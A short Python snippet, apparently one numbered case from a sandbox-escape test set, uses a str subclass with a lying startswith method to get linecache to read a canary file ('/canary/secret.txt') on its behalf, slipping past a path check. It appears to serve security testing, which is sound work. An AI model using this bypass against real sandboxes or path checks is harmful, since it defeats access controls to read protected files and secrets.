# READ (variant of 21 through a library): linecache/tokenize open the lying str subclass path on our behalf
import traceback, sys
linecache = sys.modules['linecache']
class S(str):
    def startswith(self, *a): return False
print(linecache.getlines(S('/canary/secret.txt')))
